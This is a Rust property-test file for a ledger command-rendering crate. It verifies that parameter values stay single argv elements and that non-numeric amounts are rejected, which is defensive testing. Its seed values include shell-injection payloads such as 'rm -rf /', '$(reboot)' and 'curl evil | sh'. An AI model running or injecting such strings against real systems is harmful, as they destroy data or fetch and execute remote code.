//! Property tests for command rendering.
//!
//! The central safety property: parameter values are data, never syntax.
//! Whatever a value contains, it occupies exactly one argv slot and the
//! program being executed never changes.

#![allow(clippy::expect_used, clippy::unwrap_used)]

use proptest::prelude::*;

use ledgergate_core::command::LedgerCommand;
use ledgergate_core::config::ChainConfig;
use ledgergate_core::error::CommandError;
use ledgergate_core::types::{ParamMap, ParamValue};

/// Printable parameter values, seeded with shell metacharacter payloads.
fn param_value() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => "[ -~]{1,40}",
        1 => Just("a\"; rm -rf /; echo \"b".to_string()),
        1 => Just("$(reboot)".to_string()),
        1 => Just("`halt`".to_string()),
        1 => Just("x && curl evil | sh".to_string()),
    ]
}

fn group_params(name: &str, description: &str, from: &str) -> ParamMap {
    [
        ("name", name),
        ("description", description),
        ("fromAddress", from),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), ParamValue::from(v)))
    .collect()
}

proptest! {
    /// Every value lands in its own argv slot; the program and the
    /// surrounding template are untouched.
    #[test]
    fn prop_values_are_inert_argv_elements(
        name in param_value(),
        description in param_value(),
        from in param_value(),
    ) {
        let chain = ChainConfig::default();
        let inv = LedgerCommand::CreateGroup
            .to_invocation(&group_params(&name, &description, &from), &chain)
            .expect("non-empty values render");

        prop_assert_eq!(&inv.program, "rollkit");
        prop_assert_eq!(inv.args.len(), 14);
        prop_assert_eq!(&inv.args[3], &name);
        prop_assert_eq!(&inv.args[4], &description);
        prop_assert_eq!(&inv.args[6], &from);
        // The fixed template around the values never changes.
        prop_assert_eq!(&inv.args[2], "create-group");
        prop_assert_eq!(&inv.args[9], "-y");
    }

    /// Unsigned integers of any size are accepted as amounts.
    #[test]
    fn prop_numeric_amounts_render(amount in any::<u128>()) {
        let chain = ChainConfig::default();
        let mut params = group_params("Assets", "Cash", "cosmos1abc");
        params.insert("amount".to_string(), ParamValue::from(amount.to_string()));
        params.insert("denom".to_string(), ParamValue::from("stake"));
        params.insert("debitGroupId".to_string(), ParamValue::from("1"));
        params.insert("creditGroupId".to_string(), ParamValue::from("2"));
        params.insert("receiverAddress".to_string(), ParamValue::from("cosmos1xyz"));

        let inv = LedgerCommand::SendAndRecord
            .to_invocation(&params, &chain)
            .expect("valid amount renders");
        prop_assert_eq!(&inv.args[4], &amount.to_string());
    }

    /// Anything that is not an unsigned integer is rejected as an
    /// amount before any process could run.
    #[test]
    fn prop_non_numeric_amounts_rejected(amount in "[ -~]*[^0-9 ][ -~]*") {
        prop_assume!(amount.parse::<u128>().is_err());
        prop_assume!(!amount.trim().is_empty());

        let chain = ChainConfig::default();
        let mut params = group_params("Assets", "Cash", "cosmos1abc");
        params.insert("description".to_string(), ParamValue::from("x"));
        params.insert("debitGroup".to_string(), ParamValue::from("a"));
        params.insert("creditGroup".to_string(), ParamValue::from("b"));
        params.insert("sender".to_string(), ParamValue::from("s"));
        params.insert("receiver".to_string(), ParamValue::from("r"));
        params.insert("amount".to_string(), ParamValue::from(amount));

        let result = LedgerCommand::CreateJournalEntry.to_invocation(&params, &chain);
        prop_assert!(matches!(
            result,
            Err(CommandError::InvalidParam { param: "amount", .. })
        ));
    }
}
